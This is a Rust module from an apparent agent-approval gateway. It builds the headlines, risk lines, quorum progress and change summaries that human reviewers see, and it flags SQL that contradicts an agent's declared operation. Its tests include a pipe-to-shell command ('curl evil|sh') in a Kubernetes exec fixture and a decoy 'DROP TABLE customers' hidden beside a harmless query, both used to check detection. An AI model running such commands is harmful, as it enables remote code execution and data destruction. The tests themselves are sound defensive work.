//! What a reviewer reads first about a request, on every surface — the web
//! request page and inbox, Slack and Teams cards: a one-sentence headline,
//! the risk line (why review is required, in each policy's `@reason` words),
//! quorum progress per requirement, time left, and what changed since the
//! last similar approved action. Plain text; each surface escapes it and
//! lays it out, so the surfaces never disagree.
//!
//! The "last similar approved action" index lives here too: it is written
//! when a request is approved (in the same transaction) and read by every
//! surface with one lookup.

use secondkey_core::action::Action;
use secondkey_core::principal::{Principal, PrincipalId};
use secondkey_core::request::Request;
use secondkey_core::time::Timestamp;
use serde_json::Value;

use crate::config::WebConfig;
use crate::gateway::Gateway;

/// `n` with thousands separators: `127720000` → `127,720,000`.
pub fn number(n: i64) -> String {
    let digits = n.unsigned_abs().to_string();
    let mut out = String::with_capacity(digits.len() + digits.len() / 3 + 1);
    if n < 0 {
        out.push('-');
    }
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// A JSON value for reading: numbers with separators (whole ones), strings
/// as they are, anything else as compact JSON.
pub fn value_text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        Value::Number(n) => match n.as_i64() {
            Some(i) => number(i),
            None => n.to_string(),
        },
        Value::Null => "none".into(),
        other => other.to_string(),
    }
}

/// The row estimate the agent declared (`context.estimated_rows`).
pub fn estimated_rows(a: &Action) -> Option<&Value> {
    a.context.get("estimated_rows").filter(|v| v.is_number())
}

/// One sentence: who wants to do what, where, how much, for whom.
///
/// `environment` is the configured environment of the resource (a gateway
/// fact); without one, a declared environment is named as declared.
pub fn headline(req: &Request, environment: Option<&str>) -> String {
    let a = &req.action;
    let mut s = format!(
        "{} wants to {} ({}) {}",
        req.requester.id, a.operation, a.kind, a.resource
    );
    if let Some(t) = &a.target {
        s.push_str(&format!(" → {t}"));
    }
    match (
        environment,
        a.context.get("environment").and_then(Value::as_str),
    ) {
        (Some(e), _) => s.push_str(&format!(" in {e}")),
        (None, Some(d)) => s.push_str(&format!(" in {d} (declared by the agent)")),
        (None, None) => s.push_str(" (no configured environment)"),
    }
    if let Some(rows) = estimated_rows(a) {
        s.push_str(&format!(", about {} rows (estimate)", value_text(rows)));
    }
    if let Some(o) = &a.on_behalf_of {
        match req.acting_for() {
            Some(_) => s.push_str(&format!(", on behalf of {o}")),
            None => s.push_str(&format!(", on behalf of {o} (declared, not verified)")),
        }
    }
    s.push('.');
    if let Some(m) = mislabel(a) {
        s.push(' ');
        s.push_str(&m);
    }
    s
}

/// When the statement's own words show operations the agent's label does
/// not ("write" on a `DELETE`), a sentence saying so.
pub fn mislabel(a: &Action) -> Option<String> {
    let label = a.operation.to_ascii_lowercase();
    let shown: Vec<&str> = statement_operations(a)
        .into_iter()
        .filter(|o| *o != label)
        .collect();
    (!shown.is_empty()).then(|| {
        format!(
            "The agent labels it “{}”, but the statement shows {}.",
            a.operation,
            shown.join(", ")
        )
    })
}

/// Why review is required, one per requirement: the policy's `@reason`, or
/// its id when it has none.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Risk {
    pub policy: String,
    /// The `@reason` sentence, or `policy <id>`.
    pub text: String,
    /// Whether `text` is the policy's own `@reason`.
    pub stated: bool,
}

/// The risk lines of a request (see [`Risk`]).
pub fn risks(req: &Request) -> Vec<Risk> {
    req.requirements
        .iter()
        .map(|r| match &r.reason {
            Some(why) => Risk {
                policy: r.policy_id.clone(),
                text: why.clone(),
                stated: true,
            },
            None => Risk {
                policy: r.policy_id.clone(),
                text: format!("policy {}", r.policy_id),
                stated: false,
            },
        })
        .collect()
}

/// Where one requirement stands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Progress {
    pub policy: String,
    /// Groups whose members may approve, escalation groups included.
    pub groups: Vec<String>,
    /// Set once an escalation widened it: how reviewers read the
    /// requirement (`security review (escalated to data-owners)`) and who
    /// may fill a slot now (`security, or data-owners reviewing after the
    /// escalation`) — see [`Requirement::label`](secondkey_core::request::Requirement::label).
    pub escalated: Option<(String, String)>,
    /// Who fills its slots so far.
    pub approved: Vec<PrincipalId>,
    pub needed: usize,
}

impl Progress {
    /// Approvals still needed.
    pub fn missing(&self) -> usize {
        self.needed.saturating_sub(self.approved.len())
    }

    /// The one rendering of quorum progress every surface shows:
    /// "1 of 2 from data-owners (user:bob) — 1 more needed", and once
    /// escalated "security review (escalated to data-owners): 0 of 1 from
    /// security, or data-owners reviewing after the escalation — 1 more
    /// needed".
    pub fn line(&self) -> String {
        let who = if self.approved.is_empty() {
            String::new()
        } else {
            let names: Vec<String> = self.approved.iter().map(ToString::to_string).collect();
            format!(" ({})", names.join(", "))
        };
        let rest = match self.missing() {
            0 => "met".to_string(),
            n => format!("{n} more needed"),
        };
        let (head, from) = match &self.escalated {
            Some((label, may_fill)) => (format!("{label}: "), may_fill.clone()),
            None => (String::new(), self.groups.join(" or ")),
        };
        format!(
            "{head}{} of {} from {from}{who} — {rest}",
            self.approved.len(),
            self.needed,
        )
    }
}

/// Quorum progress per requirement, by the matching that decides approval
/// ([`Request::progress`]).
pub fn progress(req: &Request) -> Vec<Progress> {
    req.requirements
        .iter()
        .zip(req.progress())
        .map(|(r, seats)| Progress {
            policy: r.policy_id.clone(),
            groups: r.all_groups().into_iter().map(str::to_string).collect(),
            escalated: (!r.widened.is_empty()).then(|| (r.label(), r.who_may_fill())),
            approved: seats.into_iter().map(|s| s.approver).collect(),
            needed: r.needed(),
        })
        .collect()
}

/// "42 min left" / "expired 3 min ago".
pub fn time_left(now: Timestamp, until: Timestamp) -> String {
    let d = (until.0 - now.0) / 1000;
    let span = |n: i64| {
        if n < 90 {
            format!("{n} s")
        } else if n < 90 * 60 {
            format!("{} min", n / 60)
        } else if n < 36 * 3600 {
            format!("{} h {} min", n / 3600, (n % 3600) / 60)
        } else {
            format!("{} d", n / 86400)
        }
    };
    if d > 0 {
        format!("{} left", span(d))
    } else {
        format!("expired {} ago", span(-d))
    }
}

/// Longest value quoted in a change sentence; longer ones are cut and say so.
const QUOTE_MAX: usize = 160;

fn quote(v: &str) -> String {
    if v.chars().count() <= QUOTE_MAX {
        return v.to_string();
    }
    let cut: String = v.chars().take(QUOTE_MAX).collect();
    format!("{cut}… ({} characters)", v.chars().count())
}

fn opt_text(v: Option<&Value>) -> String {
    v.map(value_text).unwrap_or_else(|| "none".into())
}

/// The parameter keys that hold a statement (compared as a diff, not a
/// sentence).
pub const STATEMENT_KEYS: [&str; 3] = ["sql", "statement", "query"];

/// What changed between the last similar approved action `prev` and `cur`,
/// in words, most consequential first: destination and resource, operation,
/// estimates (as a factor), lineage, parameters, who it is for,
/// justification, then the statement's size of change (its diff is shown
/// apart). Empty when nothing a reviewer reads differs.
pub fn changes<'a>(prev: &'a Action, cur: &'a Action) -> Vec<String> {
    let mut out = Vec::new();
    if prev.target != cur.target {
        out.push(format!(
            "destination changed: {} → {}",
            quote(prev.target.as_deref().unwrap_or("none")),
            quote(cur.target.as_deref().unwrap_or("none"))
        ));
    }
    for key in ["destination", "bucket", "url", "host", "to"] {
        let (a, b) = (prev.params.get(key), cur.params.get(key));
        if a != b {
            out.push(format!(
                "destination changed ({key}): {} → {}",
                quote(&opt_text(a)),
                quote(&opt_text(b))
            ));
        }
    }
    if prev.resource != cur.resource {
        out.push(format!(
            "resource changed: {} → {}",
            quote(&prev.resource),
            quote(&cur.resource)
        ));
    }
    if (&prev.kind, &prev.operation) != (&cur.kind, &cur.operation) {
        out.push(format!(
            "operation changed: {}.{} → {}.{}",
            prev.kind, prev.operation, cur.kind, cur.operation
        ));
    }
    // Estimates, then the rest of the declared context.
    let mut keys: Vec<&String> = prev.context.keys().chain(cur.context.keys()).collect();
    keys.sort();
    keys.dedup();
    let (estimates, others): (Vec<&String>, Vec<&String>) = keys
        .into_iter()
        .filter(|k| k.as_str() != "session")
        .partition(|k| k.starts_with("estimated_") || k.ends_with("_estimate"));
    for k in estimates {
        let (a, b) = (prev.context.get(k), cur.context.get(k));
        if a == b {
            continue;
        }
        let label = k
            .trim_start_matches("estimated_")
            .trim_end_matches("_estimate")
            .replace('_', " ");
        let factor = match (a.and_then(Value::as_f64), b.and_then(Value::as_f64)) {
            (Some(x), Some(y)) if x > 0.0 && y > 0.0 => {
                let f = y / x;
                if f >= 1.5 {
                    format!(" ×{}", round_factor(f))
                } else if f <= 1.0 / 1.5 {
                    format!(" ÷{}", round_factor(1.0 / f))
                } else {
                    String::new()
                }
            }
            _ => String::new(),
        };
        out.push(format!(
            "estimated {label}{factor}: {} → {}",
            opt_text(a),
            opt_text(b)
        ));
    }
    for (label, a, b) in [
        ("reads", &prev.lineage.reads, &cur.lineage.reads),
        ("writes", &prev.lineage.writes, &cur.lineage.writes),
    ] {
        let added: Vec<&str> = b
            .iter()
            .filter(|x| !a.contains(x))
            .map(String::as_str)
            .collect();
        let removed: Vec<&str> = a
            .iter()
            .filter(|x| !b.contains(x))
            .map(String::as_str)
            .collect();
        if !added.is_empty() {
            out.push(format!("lineage {label} added: {}", added.join(", ")));
        }
        if !removed.is_empty() {
            out.push(format!("lineage {label} removed: {}", removed.join(", ")));
        }
    }
    // A statement key is left to the statement comparison (below) only
    // while it holds a string on both sides (or none); anything else under
    // it — an HTTP query object, a Kubernetes exec's command list — is a
    // parameter like any other.
    let statement_key =
        |k: &str| STATEMENT_KEYS.contains(&k) && [prev, cur].iter().all(|a| holds_statement(a, k));
    let mut pkeys: Vec<&String> = prev.params.keys().chain(cur.params.keys()).collect();
    pkeys.sort();
    pkeys.dedup();
    for k in pkeys {
        if statement_key(k) || ["destination", "bucket", "url", "host", "to"].contains(&k.as_str())
        {
            continue;
        }
        match (prev.params.get(k), cur.params.get(k)) {
            (a, b) if a == b => {}
            (None, Some(b)) => out.push(format!("parameter {k} added: {}", quote(&value_text(b)))),
            (Some(a), None) => out.push(format!(
                "parameter {k} removed (was {})",
                quote(&value_text(a))
            )),
            (a, b) => out.push(format!(
                "parameter {k} changed: {} → {}",
                quote(&opt_text(a)),
                quote(&opt_text(b))
            )),
        }
    }
    for k in others {
        let (a, b) = (prev.context.get(k), cur.context.get(k));
        if a != b {
            out.push(format!(
                "declared {} changed: {} → {}",
                k.replace('_', " "),
                quote(&opt_text(a)),
                quote(&opt_text(b))
            ));
        }
    }
    if prev.on_behalf_of != cur.on_behalf_of {
        let p = |o: &Option<PrincipalId>| o.as_ref().map(ToString::to_string);
        out.push(format!(
            "on behalf of changed: {} → {}",
            p(&prev.on_behalf_of).unwrap_or_else(|| "nobody".into()),
            p(&cur.on_behalf_of).unwrap_or_else(|| "nobody".into())
        ));
    }
    if prev.justification != cur.justification {
        out.push(format!(
            "justification changed: “{}” → “{}”",
            quote(prev.justification.as_deref().unwrap_or("")),
            quote(cur.justification.as_deref().unwrap_or(""))
        ));
    }
    for k in STATEMENT_KEYS.into_iter().filter(|k| statement_key(k)) {
        let text = |a: &'a Action| a.params.get(k).and_then(Value::as_str);
        let (a, b) = (text(prev), text(cur));
        if a == b {
            continue;
        }
        let d = similar::TextDiff::from_lines(a.unwrap_or(""), b.unwrap_or(""));
        let (mut ins, mut del) = (0, 0);
        for c in d.iter_all_changes() {
            match c.tag() {
                similar::ChangeTag::Insert => ins += 1,
                similar::ChangeTag::Delete => del += 1,
                similar::ChangeTag::Equal => {}
            }
        }
        let which = if k == "statement" {
            String::new()
        } else {
            format!(" ({k})")
        };
        out.push(format!(
            "statement changed{which}: {ins} line{} added, {del} removed",
            if ins == 1 { "" } else { "s" }
        ));
    }
    out
}

/// Whether `a`'s parameter `k` is a statement or absent (not a query
/// object or any other non-string).
fn holds_statement(a: &Action, k: &str) -> bool {
    a.params.get(k).is_none_or(Value::is_string)
}

fn round_factor(f: f64) -> String {
    if f >= 10.0 {
        format!("{:.0}", f)
    } else {
        let s = format!("{:.1}", f);
        s.trim_end_matches(".0").to_string()
    }
}

/// A statement an action carries: a string under one of
/// [`STATEMENT_KEYS`], with the key that holds it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Statement<'a> {
    pub key: &'a str,
    pub text: &'a str,
}

/// Every statement of an action, in [`STATEMENT_KEYS`] order. Usually one;
/// an action that carries several (`sql` and `statement`) has each of them
/// shown on every surface, none picked over another: which one an executor
/// runs is not ours to guess, so a reviewer reads them all.
pub fn statements(a: &Action) -> Vec<Statement<'_>> {
    STATEMENT_KEYS
        .iter()
        .filter_map(|k| {
            a.params.get_key_value(*k).and_then(|(key, v)| {
                v.as_str().map(|text| Statement {
                    key: key.as_str(),
                    text,
                })
            })
        })
        .collect()
}

/// What every surface shows of an action's parameters: each statement
/// whole, then every other parameter. A parameter is in exactly one of the
/// two, so nothing the agent sent is left off. The web request and batch
/// pages and the Slack and Teams cards all draw from this, so they cannot
/// disagree about what is shown.
#[derive(Debug, Clone, PartialEq)]
pub struct Shown<'a> {
    pub statements: Vec<Statement<'a>>,
    /// Every parameter that is not one of `statements` — a statement key
    /// holding something other than a string (an HTTP query object) stays
    /// here.
    pub rest: serde_json::Map<String, Value>,
}

/// [`Shown`] for `a`.
pub fn shown(a: &Action) -> Shown<'_> {
    let statements = statements(a);
    let rest = a
        .params
        .iter()
        .filter(|(k, _)| !statements.iter().any(|s| s.key == k.as_str()))
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect();
    Shown { statements, rest }
}

impl Shown<'_> {
    /// How every surface heads statement `i`: "Statement", or with the key
    /// that holds it when there are several ("Statement (params.sql)").
    pub fn statement_label(&self, i: usize) -> String {
        match (self.statements.len(), self.statements.get(i)) {
            (2.., Some(s)) => format!("Statement (params.{})", s.key),
            _ => "Statement".to_string(),
        }
    }

    /// How every surface heads the other parameters.
    pub fn rest_label(&self) -> &'static str {
        match self.statements.len() {
            0 => "Parameters",
            1 => "Parameters besides the statement",
            _ => "Parameters besides the statements",
        }
    }
}

/// The operation classes the statements' own words show, whatever the
/// agent labelled it: a `DELETE` labelled `write` still counts as a delete.
/// Every statement counts (an action carrying a harmless `sql` beside a
/// `DROP` in `statement` shows ddl). Coarse on purpose (any such keyword
/// anywhere counts): it only ever asks for more care, never less.
pub fn statement_operations(a: &Action) -> Vec<&'static str> {
    let mut out = Vec::new();
    let words = statements(a).into_iter().flat_map(|s| {
        s.text
            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
    });
    for w in words {
        let class = match w.to_ascii_uppercase().as_str() {
            "DELETE" | "TRUNCATE" => "delete",
            "UPDATE" | "INSERT" | "MERGE" | "UPSERT" => "write",
            "DROP" | "ALTER" | "CREATE" => "ddl",
            "GRANT" | "REVOKE" => "grant",
            "COPY" => "export",
            _ => continue,
        };
        if !out.contains(&class) {
            out.push(class);
        }
    }
    out
}

/// Whether a decision taken on `req` in a batch must carry a comment: a
/// sensitive operation (the declared one, or one the statement shows) in a
/// listed environment (the configured one, or one the agent declared —
/// either is enough). See `[web]` in docs/web.md.
pub fn needs_comment(req: &Request, environment: Option<&str>, web: &WebConfig) -> bool {
    let a = &req.action;
    let declared_env = a.context.get("environment").and_then(Value::as_str);
    let in_listed = [environment, declared_env].into_iter().flatten().any(|e| {
        web.batch_comment_environments
            .iter()
            .any(|x| x.eq_ignore_ascii_case(e))
    });
    if !in_listed {
        return false;
    }
    let op = a.operation.to_ascii_lowercase();
    web.batch_comment_operations.contains(&op)
        || statement_operations(a)
            .iter()
            .any(|o| web.batch_comment_operations.iter().any(|x| x == o))
}

/// Records namespace of the "last similar approved request" index.
pub const SIMILAR_NS: &str = "web.similar";

/// The index key of requests alike for review: same requester, kind,
/// operation and resource (hashed: resources can be long).
pub fn similar_key(req: &Request) -> String {
    use sha2::{Digest, Sha256};
    let a = &req.action;
    hex::encode(Sha256::digest(
        format!(
            "{}\n{}\n{}\n{}",
            req.requester.id, a.kind, a.operation, a.resource
        )
        .as_bytes(),
    ))
}

async fn similar_id(g: &Gateway, req: &Request) -> Option<String> {
    let store = g.store.clone();
    let key = similar_key(req);
    let id = tokio::task::spawn_blocking(move || store.get_record(SIMILAR_NS, &key))
        .await
        .ok()?
        .ok()??;
    (id != req.id).then_some(id)
}

fn is_earlier_alike(prev: Request, req: &Request) -> Option<Request> {
    (prev.created_at <= req.created_at && similar_key(&prev) == similar_key(req)).then_some(prev)
}

/// The last request like `req` (same requester, kind, operation and
/// resource) that was approved before it, if `who` may see it. One indexed
/// lookup (written when a request is approved), not a scan.
pub async fn similar_approved(g: &Gateway, who: &Principal, req: &Request) -> Option<Request> {
    let id = similar_id(g, req).await?;
    let prev = g.get_request(who, &id).await.ok()?;
    is_earlier_alike(prev, req)
}

/// [`similar_approved`] for a chat card, which has no single viewer: the
/// card goes to the channels routed for this requester's actions on this
/// resource, the same that saw the earlier request.
pub async fn similar_approved_for_channel(g: &Gateway, req: &Request) -> Option<Request> {
    let id = similar_id(g, req).await?;
    let store = g.store.clone();
    let prev = tokio::task::spawn_blocking(move || store.get_request(&id))
        .await
        .ok()?
        .ok()??;
    is_earlier_alike(prev, req)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn action(v: Value) -> Action {
        serde_json::from_value(v).unwrap()
    }

    #[test]
    fn numbers_have_separators() {
        for (n, s) in [
            (0, "0"),
            (999, "999"),
            (1000, "1,000"),
            (127_720_000, "127,720,000"),
            (-41_200, "-41,200"),
            (i64::MIN, "-9,223,372,036,854,775,808"),
        ] {
            assert_eq!(number(n), s);
        }
    }

    #[test]
    fn changes_say_what_moved_in_words() {
        let prev = action(json!({
            "kind": "sql", "operation": "export", "resource": "postgres://crm/public.customers",
            "target": "s3://internal-exports/weekly",
            "params": {"statement": "SELECT id FROM customers\nWHERE active\n", "format": "csv"},
            "justification": "weekly report",
            "context": {"estimated_rows": 41200, "session": "a", "model": "m1"},
            "lineage": {"reads": ["postgres://crm/public.customers"], "writes": ["s3://internal-exports/weekly"]}
        }));
        let cur = action(json!({
            "kind": "sql", "operation": "export", "resource": "postgres://crm/public.customers",
            "target": "s3://partner-share/drop",
            "params": {"statement": "SELECT id, c.email, c.phone FROM customers\n", "format": "csv"},
            "justification": "weekly report",
            "context": {"estimated_rows": 412000, "session": "b", "model": "m1"},
            "lineage": {"reads": ["postgres://crm/public.customers"], "writes": ["s3://partner-share/drop"]}
        }));
        let c = changes(&prev, &cur);
        assert_eq!(
            c,
            vec![
                "destination changed: s3://internal-exports/weekly → s3://partner-share/drop",
                "estimated rows ×10: 41,200 → 412,000",
                "lineage writes added: s3://partner-share/drop",
                "lineage writes removed: s3://internal-exports/weekly",
                "statement changed: 1 line added, 2 removed",
            ]
        );
        assert!(changes(&prev, &prev).is_empty());
        // A shrinking estimate, a new parameter, a long value cut and said so.
        let mut smaller = prev.clone();
        smaller
            .context
            .insert("estimated_rows".into(), json!(20_000));
        smaller
            .params
            .insert("limit".into(), json!("x".repeat(500)));
        let c = changes(&prev, &smaller);
        assert_eq!(c[0], "estimated rows ÷2.1: 41,200 → 20,000");
        assert!(
            c[1].starts_with("parameter limit added: xxx") && c[1].ends_with("… (500 characters)")
        );
    }

    #[test]
    fn a_query_object_is_compared_like_any_parameter() {
        // A Kubernetes exec: the command travels in the URL query, which
        // the HTTP gateway puts in `params.query` as an object.
        let exec = |command: Value| {
            action(json!({"kind": "k8s", "operation": "exec",
                "resource": "k8s://prod/namespaces/web/pods/api-0/exec",
                "params": {"method": "POST", "path": "/api/v1/namespaces/web/pods/api-0/exec",
                           "query": {"command": command, "stdout": "true"}}}))
        };
        let ls = exec(json!(["ls"]));
        let sh = exec(json!(["sh", "-c", "curl evil|sh"]));
        assert!(changes(&ls, &ls).is_empty());
        assert_eq!(
            changes(&ls, &sh),
            [
                r#"parameter query changed: {"command":["ls"],"stdout":"true"} → {"command":["sh","-c","curl evil|sh"],"stdout":"true"}"#
            ]
        );
        // A string statement that becomes an object is a parameter that
        // changed, shown whole; two strings are statements.
        let q = |v: Value| {
            action(
                json!({"kind": "mcp", "operation": "call", "resource": "mcp://s/tools/q",
            "params": {"query": v}}),
            )
        };
        assert_eq!(
            changes(&q(json!("SELECT 1")), &q(json!({"sql": "DROP TABLE t"}))),
            [r#"parameter query changed: SELECT 1 → {"sql":"DROP TABLE t"}"#]
        );
        assert_eq!(
            changes(&q(json!("SELECT 1")), &q(json!("SELECT 2"))),
            ["statement changed (query): 1 line added, 1 removed"]
        );
    }

    #[test]
    fn every_statement_of_an_action_counts() {
        // A harmless `sql` beside a destructive `statement`.
        let decoy = action(
            json!({"kind": "sql", "operation": "read", "resource": "postgres://crm/public.customers",
            "params": {"sql": "SELECT 1", "statement": "DROP TABLE customers"}}),
        );
        assert_eq!(
            statements(&decoy),
            [
                Statement {
                    key: "sql",
                    text: "SELECT 1"
                },
                Statement {
                    key: "statement",
                    text: "DROP TABLE customers"
                }
            ]
        );
        assert_eq!(statement_operations(&decoy), ["ddl"]);
        assert_eq!(
            mislabel(&decoy).as_deref(),
            Some("The agent labels it “read”, but the statement shows ddl.")
        );
        let s = shown(&decoy);
        assert_eq!(
            (s.statement_label(0), s.statement_label(1), s.rest.len()),
            (
                "Statement (params.sql)".to_string(),
                "Statement (params.statement)".to_string(),
                0
            )
        );
    }

    #[test]
    fn progress_lines() {
        let p = Progress {
            policy: "p".into(),
            groups: vec!["dba".into(), "sec".into()],
            escalated: None,
            approved: vec![PrincipalId::parse("user:bob").unwrap()],
            needed: 2,
        };
        assert_eq!(
            p.line(),
            "1 of 2 from dba or sec (user:bob) — 1 more needed"
        );
        let none = Progress {
            approved: vec![],
            needed: 1,
            ..p
        };
        assert_eq!(none.line(), "0 of 1 from dba or sec — 1 more needed");
        let widened = Progress {
            escalated: Some((
                "dba review (escalated to sec)".into(),
                "dba, or sec reviewing after the escalation".into(),
            )),
            ..none
        };
        assert_eq!(
            widened.line(),
            "dba review (escalated to sec): 0 of 1 from dba, or sec reviewing after the escalation — 1 more needed"
        );
    }

    #[test]
    fn batch_comments_follow_environment_and_operation() {
        let web = WebConfig::default();
        let req = |op: &str, sql: &str, env: Option<&str>| {
            let mut ctx = serde_json::Map::new();
            if let Some(e) = env {
                ctx.insert("environment".into(), json!(e));
            }
            let a = action(
                json!({"kind": "sql", "operation": op, "resource": "postgres://db/t",
                "params": {"statement": sql}, "context": ctx}),
            );
            Request::new(
                "req_1".into(),
                secondkey_core::action::Digest::of_json(&json!({})).unwrap(),
                a,
                Principal::new(PrincipalId::parse("agent:a").unwrap(), None, vec![]).unwrap(),
                vec![],
                std::time::Duration::from_secs(60),
                std::time::Duration::from_secs(60),
                Timestamp(0),
            )
        };
        // A DELETE labelled a write, in a configured prod.
        assert!(needs_comment(
            &req("write", "delete from t", None),
            Some("prod"),
            &web
        ));
        // A read labelled a read is fine; a DELETE labelled read is not.
        assert!(!needs_comment(
            &req("read", "select 1", None),
            Some("prod"),
            &web
        ));
        assert!(needs_comment(
            &req("read", "SELECT 1; DELETE FROM t", None),
            Some("prod"),
            &web
        ));
        // A declared prod counts too; staging does not.
        assert!(needs_comment(
            &req("export", "select 1", Some("Production")),
            None,
            &web
        ));
        assert!(!needs_comment(
            &req("delete", "delete from t", None),
            Some("staging"),
            &web
        ));
        // Configurable: no environments, never.
        let off = WebConfig {
            batch_comment_environments: vec![],
            ..web.clone()
        };
        assert!(!needs_comment(
            &req("delete", "delete from t", None),
            Some("prod"),
            &off
        ));
    }

    #[test]
    fn time_left_reads() {
        let t = |ms| Timestamp(ms);
        assert_eq!(time_left(t(0), t(42 * 60_000)), "42 min left");
        assert_eq!(time_left(t(0), t(30_000)), "30 s left");
        assert_eq!(time_left(t(0), t(2 * 3_600_000 + 60_000)), "2 h 1 min left");
        assert_eq!(time_left(t(180_000), t(0)), "expired 3 min ago");
    }
}
